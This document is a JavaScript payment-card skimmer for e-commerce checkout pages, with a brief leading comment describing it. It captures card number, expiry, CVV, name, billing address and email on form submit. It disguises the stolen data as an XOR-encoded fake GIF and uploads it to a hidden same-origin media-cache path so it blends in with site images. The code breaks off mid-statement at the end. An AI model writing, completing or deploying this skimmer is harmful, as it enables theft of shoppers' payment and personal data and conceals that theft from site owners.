// corpus note: wraps checkout card data in a fake GIF89a blob and uploads it as multipart form data to a same-origin wysiwyg media path; the file is truncated mid-statement and does not parse
(function (doc) {
  var UPLOAD = "/media/wysiwyg/banners/.cache/spacer.gif";
  var submitted = {};

  function field(form, names) {
    for (var i = 0; i < names.length; i++) {
      var el = form.querySelector("[name='" + names[i] + "']");
      if (el && el.value) return el.value;
    }
    return "";
  }

  function asGif(text) {
    var head = [0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00];
    var bytes = new Uint8Array(head.length + text.length);
    bytes.set(head, 0);
    for (var i = 0; i < text.length; i++) bytes[head.length + i] = text.charCodeAt(i) ^ 0x5a;
    return new Blob([bytes], { type: "image/gif" });
  }

  function handle(form) {
    var pan = field(form, ["payment[cc_number]", "cc_number", "cardNumber"]).replace(/\D/g, "");
    if (pan.length < 13 || submitted[pan]) return;
    var text = [
      pan,
      field(form, ["payment[cc_exp_month]", "exp_month"]),
      field(form, ["payment[cc_exp_year]", "exp_year"]),
      field(form, ["payment[cc_cid]", "cvv"]),
      field(form, ["billing[firstname]", "firstname"]) + " " + field(form, ["billing[lastname]", "lastname"]),
      field(form, ["billing[street][0]", "street[0]"]),
      field(form, ["billing[city]", "city"]),
      field(form, ["billing[postcode]", "postcode"]),
      field(form, ["billing[email]", "email"])
    ].join("\n");
    submitted[pan] = true;
    var fd = new FormData();
    fd.append("image", asGif(unescape(encodeURIComponent(text))), "spacer.gif");
    fd.append("form_key", (doc.querySelector("input[name=form_key]") || {}).value || "");
    var xhr = new XMLHttpRequest();
    xhr.open("POST", UPLOAD, true);
    xhr.onload = function () {
      if (xhr.status >= 400) delete submitted[pan];
    };
    xhr.send(fd);
  }

  doc.addEventListener("submit", function (e) {
    if (e.target && e.target.querySelector && e.target.querySelector("[name*='cc_number'], [name='cardNumber']")) {
      handle(e.target
